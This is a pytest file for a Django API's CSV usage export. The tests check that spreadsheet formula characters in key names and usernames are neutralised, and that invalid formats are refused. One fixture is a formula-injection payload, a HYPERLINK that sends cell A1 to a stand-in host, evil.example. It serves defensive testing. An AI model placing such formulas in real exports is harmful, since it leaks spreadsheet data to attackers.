"""The usage export (GET /api/v1/usage?format=csv): what users named is shown, never run, and a
format outside json and csv is refused by name."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest

from access.usage_api import spreadsheet_cell

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def usage_of(api: Any, user: str, query: str = "format=csv") -> list[dict[str, str]]:
    response = api(user).get(f"/api/v1/usage?{query}")
    assert response.status_code == 200, response.content
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def key_with_usage(api: Any, user: str, name: str) -> None:
    from access.models import GatewayKey, KeyUsageDay

    created = api(user).post("/api/v1/keys", {"name": name}, format="json")
    assert created.status_code == 201, created.content
    key = GatewayKey.objects.get(pk=created.json()["id"])
    KeyUsageDay.objects.create(
        key=key, model="chat", day=date(2026, 12, 1), requests=3, prompt_tokens=9
    )


def test_a_key_named_as_a_formula_is_exported_as_text(api: Any) -> None:
    key_with_usage(api, "alice", HYPERLINK)
    for user in ("alice", "staff"):  # the owner's export, and staff's of everyone's
        [row] = usage_of(api, user)
        assert row["key_name"] == "'" + HYPERLINK
        assert (row["owner"], row["model"], row["requests"]) == ("alice", "chat", "3")
    # JSON is for programs: the name as it was given.
    [entry] = api("alice").get("/api/v1/usage").json()
    assert entry["key_name"] == HYPERLINK


def test_a_username_that_starts_a_formula_is_exported_as_text(api: Any) -> None:
    from django.contrib.auth import get_user_model
    from rest_framework.test import APIClient

    from accounts.services import token_create

    # Django usernames may start with @, + and -.
    plus = get_user_model().objects.create_user("+1-555-0100", password="plus-password-1")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token_create(user=plus)[1]}")
    key_with_usage(lambda _: client, "plus", "app")
    [row] = usage_of(api, "staff")
    assert row["owner"] == "'+1-555-0100"
    assert row["key_name"] == "app"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_start_of_a_formula_is_neutralised(start: str) -> None:
    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["app", "my=app", "a-b", "", 3, 0])
def test_other_cells_are_left_as_they_are(value: Any) -> None:
    assert spreadsheet_cell(value) == value


def test_a_refusal_in_csv_is_one_quoted_cell(api: Any) -> None:
    response = api("alice").get("/api/v1/usage?format=csv&since=monday")
    assert response.status_code == 400
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["error"]
    assert rows[1][0].startswith("The request was refused, nothing was changed: since:")
    assert len(rows) == 2


@pytest.mark.parametrize("wanted", ["xml", "", "CSV", "csv ", "api"])
def test_a_format_outside_json_and_csv_is_refused_by_name(api: Any, wanted: str) -> None:
    response = api("alice").get("/api/v1/usage", {"format": wanted})
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "invalid"
    assert body["problems"] == [
        {
            "field": "format",
            "message": f"{wanted!r} is not a format of this endpoint: use format=json or "
            "format=csv (a spreadsheet), or leave it out for JSON",
        }
    ]


def test_a_long_format_is_not_echoed_whole(api: Any) -> None:
    response = api("alice").get("/api/v1/usage", {"format": "x" * 5000})
    assert response.status_code == 400
    assert len(response.content) < 600


@pytest.mark.parametrize("wanted", ["json", "csv"])
def test_json_and_csv_are_formats(api: Any, wanted: str) -> None:
    response = api("alice").get("/api/v1/usage", {"format": wanted})
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        {"json": "application/json", "csv": "text/csv"}[wanted]
    )


def test_the_schema_lists_the_formats(api: Any) -> None:
    import yaml

    schema = yaml.safe_load(api("alice").get("/api/v1/schema").content)
    operation = schema["paths"]["/api/v1/usage"]["get"]
    [parameter] = [p for p in operation["parameters"] if p["name"] == "format"]
    assert sorted(parameter["schema"]["enum"]) == ["csv", "json"]
    assert "404" not in operation["responses"]
